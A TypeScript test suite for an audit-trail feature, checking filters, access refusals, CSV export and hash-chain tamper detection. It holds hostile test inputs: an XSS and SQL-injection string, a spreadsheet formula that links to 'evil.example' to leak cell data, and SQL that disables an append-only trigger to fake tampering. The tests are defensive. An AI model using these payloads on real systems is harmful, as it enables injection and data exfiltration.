import { expect } from 'chai';
import supertest from 'supertest';
import { startTestEnv, csrfFrom, DEMO_PASSWORD, type TestEnv, type LoggedInAgent } from '../support/harness.js';
import { appendAudit } from '../../server/platform/audit/index.js';

/** A sign-in attempt from a fresh browser; returns the status. */
async function attemptLogin(env: TestEnv, username: string, password: string): Promise<number> {
  const agent = env.agent();
  const page = await agent.get('/login');
  return (await agent.post('/login').type('form').send({ _csrf: csrfFrom(page.text), username, password })).status;
}

/** Today as a calendar day in WIB. */
function wibToday(offsetDays = 0): string {
  return new Date(Date.now() + 7 * 3600 * 1000 + offsetDays * 86_400_000).toISOString().slice(0, 10);
}

/** The data rows of the audit page (between <tbody> and </tbody>). */
function rowsOf(html: string): string[] {
  const body = /<tbody>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? '';
  return body.split('<tr>').slice(1);
}

describe('audit trail: the auditor\'s page and API', () => {
  let env: TestEnv;
  let auditor: LoggedInAgent;
  let auditorToken: string;

  before(async () => {
    env = await startTestEnv();
    expect(await attemptLogin(env, 'staf1', 'salah-sekali')).to.equal(401);
    expect(await attemptLogin(env, 'staf1', DEMO_PASSWORD)).to.equal(303);
    auditor = await env.loginAs('auditor');
    auditorToken = await env.tokenFor('auditor');
  });
  after(() => env.close());

  it('lists sign-in success and failure of a user, newest first, with time in WIB and the IP', async () => {
    const res = await auditor.agent.get('/audit?actor=STAF1');
    expect(res.status).to.equal(200);
    const rows = rowsOf(res.text);
    expect(rows).to.have.length(2);
    expect(rows[0]).to.contain('Masuk berhasil').and.contain('127.0.0.1');
    expect(rows[1]).to.contain('Gagal masuk').and.contain('127.0.0.1');
    const entry = await env.ctx.db.selectFrom('audit_log').selectAll().where('action', '=', 'auth.login').where('actor_name', '=', 'staf1').executeTakeFirstOrThrow();
    const wib = new Date(entry.at).toLocaleString('id-ID', { timeZone: 'Asia/Jakarta', dateStyle: 'medium', timeStyle: 'medium' });
    expect(rows[0]).to.contain(`<time datetime="${entry.at}">${wib}</time>`);
    // The details view carries the entry's JSON, escaped.
    expect(rows[1]).to.contain('&#34;reason&#34;: &#34;invalid&#34;');
  });

  it('filters by kind of event, object, day and IP prefix, and pages', async () => {
    const failed = await auditor.agent.get('/audit?actor=staf1&action=auth.login_failed');
    expect(rowsOf(failed.text)).to.have.length(1);
    expect(failed.text).to.contain('<option value="auth.login_failed" selected>Gagal masuk</option>');

    const staf1 = await env.ctx.db.selectFrom('users').select('id').where('username', '=', 'staf1').executeTakeFirstOrThrow();
    const byObject = await auditor.agent.get(`/audit?objectType=user&objectId=${staf1.id}`);
    expect(rowsOf(byObject.text)).to.have.length(2);

    expect(rowsOf((await auditor.agent.get(`/audit?actor=staf1&from=${wibToday()}&to=${wibToday()}`)).text)).to.have.length(2);
    expect(rowsOf((await auditor.agent.get(`/audit?actor=staf1&from=${wibToday(1)}`)).text)).to.have.length(0);
    expect(rowsOf((await auditor.agent.get(`/audit?actor=staf1&to=${wibToday(-1)}`)).text)).to.have.length(0);
    expect(rowsOf((await auditor.agent.get('/audit?actor=staf1&ip=10.')).text)).to.have.length(0);
    expect(rowsOf((await auditor.agent.get('/audit?actor=staf1&ip=127.0.')).text)).to.have.length(2);

    const page1 = await auditor.agent.get('/audit?actor=staf1&size=1');
    const page2 = await auditor.agent.get('/audit?actor=staf1&size=1&page=2');
    expect(rowsOf(page1.text)[0]).to.contain('Masuk berhasil');
    expect(rowsOf(page2.text)[0]).to.contain('Gagal masuk');
    expect(page1.text).to.contain('href="?actor=staf1&amp;size=1&page=2"');
  });

  it('gives the same entries through the API, with limit/offset capped', async () => {
    const api = (q: string) => supertest(env.app).get(`/api/v1/audit${q}`).set('Authorization', `Bearer ${auditorToken}`);
    const all = await api('?actor=staf1');
    expect(all.status).to.equal(200);
    expect(all.body.total).to.equal(2);
    expect(all.body.items.map((e: { action: string }) => e.action)).to.deep.equal(['auth.login', 'auth.login_failed']);
    expect(all.body.items[1]).to.include({ actorName: 'staf1', objectType: 'user' });
    expect(all.body.items[1].ip).to.equal('127.0.0.1');
    expect(all.body.items[1].details).to.deep.equal({ reason: 'invalid' });
    const second = await api('?actor=staf1&limit=1&offset=1');
    expect(second.body).to.deep.include({ total: 2, limit: 1, offset: 1 });
    expect(second.body.items.map((e: { action: string }) => e.action)).to.deep.equal(['auth.login_failed']);
    const capped = await api('?limit=100000');
    expect(capped.body.limit).to.equal(500);
    const bad = await api('?from=2025-02-30');
    expect(bad.status).to.equal(400);
    expect(bad.body.error.code).to.equal('validation_failed');
    expect(bad.body.error.details[0]).to.deep.equal({ field: 'from', message: 'Tanggal harus berformat TTTT-BB-HH.' });
  });

  it('refuses the konseptor on the page, the export, the verification and the API (403), and records it', async () => {
    const { agent, csrf } = await env.loginAs('konseptor');
    const page = await agent.get('/audit');
    expect(page.status).to.equal(403);
    expect(page.text).to.contain('Anda tidak memiliki akses untuk tindakan ini.');
    expect(page.text).to.not.contain('Gagal masuk');
    expect((await agent.get('/audit/export.csv')).status).to.equal(403);
    expect((await agent.post('/audit/verifikasi').type('form').send({ _csrf: await csrf() })).status).to.equal(403);
    const token = await env.tokenFor('konseptor');
    for (const url of ['/api/v1/audit', '/api/v1/audit/verify']) {
      const res = await supertest(env.app).get(url).set('Authorization', `Bearer ${token}`);
      expect(res.status, url).to.equal(403);
      expect(res.body.error.code).to.equal('forbidden');
    }
    // Even a hostile filter gets the refusal, not a validation message.
    expect((await agent.get('/audit?from=nonsense')).status).to.equal(403);
    const refused = await env.ctx.db.selectFrom('audit_log').select(['details']).where('action', '=', 'auth.forbidden').where('actor_name', '=', 'konseptor').execute();
    expect(refused.map((r) => (r.details as { path: string }).path)).to.include.members(['/audit', '/api/v1/audit']);
    // Nav shows the trail only to those who may read it.
    expect((await agent.get('/')).text).to.not.contain('href="/audit"');
    expect((await auditor.agent.get('/')).text).to.contain('href="/audit"');
  });

  it('handles hostile filter input: escaped on the page, literal in SQL, never a 500', async () => {
    const hostile = `<script>alert("x")</script>' OR '1'='1`;
    expect(await attemptLogin(env, hostile, 'apa-saja-123')).to.equal(401);
    const res = await auditor.agent.get('/audit').query({ actor: hostile, objectId: "1' OR 1=1 --", objectType: '%' });
    expect(res.status).to.equal(200);
    expect(res.text).to.not.contain('<script>alert');
    expect(res.text).to.contain('value="&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;&#39; OR &#39;1&#39;=&#39;1"');
    expect(rowsOf(res.text)).to.have.length(0);

    // The failed sign-in under that name is found by an exact filter and shown escaped.
    const found = await auditor.agent.get('/audit').query({ actor: hostile });
    expect(rowsOf(found.text)).to.have.length(1);
    expect(rowsOf(found.text)[0]).to.contain('<code>&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;&#39; OR &#39;1&#39;=&#39;1</code>');

    // `%` and `_` in the IP prefix match themselves, not everything.
    expect(rowsOf((await auditor.agent.get('/audit').query({ ip: '%' })).text)).to.have.length(0);
    expect(rowsOf((await auditor.agent.get('/audit').query({ ip: '_' })).text)).to.have.length(0);

    const badDate = await auditor.agent.get('/audit').query({ from: '2025-13-45', actor: '"><b>' });
    expect(badDate.status).to.equal(400);
    expect(badDate.text).to.contain('Tanggal harus berformat TTTT-BB-HH.');
    expect(badDate.text).to.contain('value="&#34;&gt;&lt;b&gt;"');
    const badAction = await auditor.agent.get('/audit').query({ action: 'auth.login<x>' });
    expect(badAction.status).to.equal(400);
    expect(badAction.text).to.contain('Jenis kejadian tidak dikenal.');
    const repeated = await auditor.agent.get('/audit?actor=a&actor=b');
    expect(repeated.status).to.equal(400);
    const tooLong = await auditor.agent.get('/audit').query({ objectId: 'x'.repeat(5000) });
    expect(tooLong.status).to.equal(400);
  });

  it('exports the filtered entries as CSV that a spreadsheet cannot run as a formula', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")';
    expect(await attemptLogin(env, evil, 'apa-saja-123')).to.equal(401);
    const res = await auditor.agent.get('/audit/export.csv').query({ action: 'auth.login_failed' });
    expect(res.status).to.equal(200);
    expect(res.headers['content-type']).to.equal('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).to.match(/^attachment; filename="jejak-audit-\d{8}-\d{6}\.csv"$/);
    const lines = res.text.replace(/^\ufeff/, '').trim().split('\r\n');
    expect(lines[0]).to.equal('seq,at_utc,actor_id,actor,action,action_label,object_type,object_id,ip,doc_sha256,details,hash,prev_hash');
    const failures = await env.ctx.db.selectFrom('audit_log').select('seq').where('action', '=', 'auth.login_failed').execute();
    expect(lines).to.have.length(failures.length + 1);
    expect(lines.slice(1).every((l) => l.includes(',auth.login_failed,Gagal masuk,'))).to.equal(true);
    expect(lines[1]).to.contain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")",`);
    expect(lines.some((l) => l.includes(',staf1,auth.login_failed,'))).to.equal(true);
  });

  it('shows what an administrator changed: unit and user creation with actor, IP and a link to the object', async () => {
    const admin = await env.loginAs('admin');
    const unitRes = await admin.agent.post('/admin/units').type('form').send({ _csrf: await admin.csrf(), code: 'AUDITUJI', name: 'Bagian Uji Audit', kind: 'bagian' });
    expect(unitRes.status).to.equal(303);
    const unit = await env.ctx.db.selectFrom('units').select('id').where('code', '=', 'AUDITUJI').executeTakeFirstOrThrow();
    const position = await env.ctx.db.selectFrom('positions').select('id').where('code', '=', 'PROGRAMMER-PA').executeTakeFirstOrThrow();
    const userRes = await admin.agent.post('/admin/users').type('form').send({
      _csrf: await admin.csrf(), username: 'baru.audit', name: 'Pegawai Baru', positionId: String(position.id), roles: 'staf', password: 'kata-sandi-awal-1',
    });
    expect(userRes.status).to.equal(303);
    const created = await env.ctx.db.selectFrom('users').select('id').where('username', '=', 'baru.audit').executeTakeFirstOrThrow();

    const res = await admin.agent.get('/audit?actor=admin');
    const rows = rowsOf(res.text);
    expect(rows[0]).to.contain('Pengguna dibuat').and.contain(`<a href="/admin/users/${created.id}">user ${created.id}</a>`).and.contain('127.0.0.1');
    expect(rows[1]).to.contain('Unit kerja dibuat').and.contain(`<a href="/admin/units/${unit.id}">unit ${unit.id}</a>`);
    expect(rows[0]).to.not.contain('kata-sandi-awal-1');
    // The auditor may not open administration pages, so gets the object without a link.
    const forAuditor = rowsOf((await auditor.agent.get(`/audit?objectType=unit&objectId=${unit.id}`)).text);
    expect(forAuditor).to.have.length(1);
    expect(forAuditor[0]).to.contain(`unit ${unit.id}`).and.not.contain('href="/admin/units');
  });

  it('shows the page in English when asked', async () => {
    const res = await auditor.agent.get('/audit?actor=staf1&lang=en');
    expect(res.text).to.contain('<h1>Audit trail</h1>');
    expect(rowsOf(res.text)[0]).to.contain('Signed in');
    expect(rowsOf(res.text)[1]).to.contain('Sign-in refused');
    await auditor.agent.get('/?lang=id');
  });

  it('verifies the intact chain through the API and the page', async () => {
    const res = await supertest(env.app).get('/api/v1/audit/verify').set('Authorization', `Bearer ${auditorToken}`);
    expect(res.status).to.equal(200);
    const head = await env.ctx.db.selectFrom('audit_head').selectAll().executeTakeFirstOrThrow();
    const count = await env.ctx.db.selectFrom('audit_log').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow();
    expect(res.body).to.deep.equal({ intact: true, count: Number(count.n), headSeq: String(head.seq), headHash: head.hash });
    const page = await auditor.agent.post('/audit/verifikasi').type('form').send({ _csrf: await auditor.csrf() });
    expect(page.status).to.equal(200);
    expect(page.text).to.contain('Rantai audit utuh:').and.contain(head.hash);
  });
});

describe('audit trail: tampering is detected', () => {
  let env: TestEnv;
  let token: string;
  const verify = async () => (await supertest(env.app).get('/api/v1/audit/verify').set('Authorization', `Bearer ${token}`)).body;
  /** As the database superuser: what an intruder with direct SQL access could do. */
  const asSuperuser = async (statement: string) => {
    await env.ctx.dbHandle.pool.query('ALTER TABLE audit_log DISABLE TRIGGER audit_log_append_only');
    try {
      await env.ctx.dbHandle.pool.query(statement);
    } finally {
      await env.ctx.dbHandle.pool.query('ALTER TABLE audit_log ENABLE TRIGGER audit_log_append_only');
    }
  };

  beforeEach(async () => {
    env = await startTestEnv();
    token = await env.tokenFor('auditor');
    for (const u of ['staf1', 'staf2', 'staf3']) await attemptLogin(env, u, DEMO_PASSWORD);
  });
  afterEach(() => env.close());

  it('refuses UPDATE, DELETE and TRUNCATE while the trigger is on, and the chain stays intact', async () => {
    const before = await env.ctx.dbHandle.pool.query('SELECT * FROM audit_log WHERE seq = 2');
    for (const sqlText of ["UPDATE audit_log SET details = '{\"x\":1}' WHERE seq = 2", 'DELETE FROM audit_log WHERE seq = 2', 'TRUNCATE audit_log']) {
      let err: Error | undefined;
      await env.ctx.dbHandle.pool.query(sqlText).catch((e: Error) => (err = e));
      expect(err?.message, sqlText).to.contain('audit_log is append-only');
    }
    expect((await env.ctx.dbHandle.pool.query('SELECT * FROM audit_log WHERE seq = 2')).rows).to.deep.equal(before.rows);
    expect((await verify()).intact).to.equal(true);
  });

  it('names the first altered entry after a row\'s details are edited by SQL', async () => {
    const target = await env.ctx.db.selectFrom('audit_log').select('seq').where('action', '=', 'auth.login').where('actor_name', '=', 'staf2').executeTakeFirstOrThrow();
    await asSuperuser(`UPDATE audit_log SET details = '{"note":"tidak pernah terjadi"}' WHERE seq = ${Number(target.seq)}`);
    const v = await verify();
    expect(v.intact).to.equal(false);
    expect(v.firstBad).to.include({ seq: String(target.seq), code: 'altered' });
    expect(v.count).to.equal(Number(target.seq) - 1);
    const auditor = await env.loginAs('auditor');
    const page = await auditor.agent.post('/audit/verifikasi').type('form').send({ _csrf: await auditor.csrf() });
    expect(page.text).to.contain(`Rantai audit RUSAK pada entri ${target.seq}: isi entri tidak cocok dengan hash-nya (diubah)`);
  });

  it('names the first missing entry after a row is deleted by SQL', async () => {
    const target = await env.ctx.db.selectFrom('audit_log').select('seq').where('action', '=', 'auth.login').where('actor_name', '=', 'staf1').executeTakeFirstOrThrow();
    await asSuperuser(`DELETE FROM audit_log WHERE seq = ${Number(target.seq)}`);
    const v = await verify();
    expect(v.intact).to.equal(false);
    expect(v.firstBad).to.include({ seq: String(target.seq), code: 'missing' });
  });

  it('notices entries deleted at the end of the chain', async () => {
    const head = await env.ctx.db.selectFrom('audit_head').select('seq').executeTakeFirstOrThrow();
    await asSuperuser(`DELETE FROM audit_log WHERE seq = ${Number(head.seq)}`);
    const v = await verify();
    expect(v.intact).to.equal(false);
    expect(v.firstBad).to.include({ seq: String(head.seq), code: 'truncated' });
  });

  it('calls the chain intact when verified while other requests append entries', async () => {
    const appends = Array.from({ length: 100 }, (_, i) => env.ctx.db.transaction().execute((trx) => appendAudit(trx, { id: null, name: 'system' }, { action: 'auth.login', details: { i } })));
    const verdicts = await Promise.all(Array.from({ length: 10 }, () => verify()));
    await Promise.all(appends);
    expect(verdicts.filter((v) => !v.intact)).to.deep.equal([]);
    expect(await verify()).to.include({ intact: true });
  });

  it('notices an entry added after the head by SQL', async () => {
    const head = await env.ctx.db.selectFrom('audit_head').select(['seq', 'hash']).executeTakeFirstOrThrow();
    const next = Number(head.seq) + 1;
    await asSuperuser(`INSERT INTO audit_log (seq, at, action, details, prev_hash, hash) VALUES (${next}, now(), 'auth.login', '{}', '${head.hash}', '${'0'.repeat(64)}')`);
    const v = await verify();
    expect(v.intact).to.equal(false);
    expect(v.firstBad).to.include({ seq: String(next), code: 'head_mismatch' });
  });
});
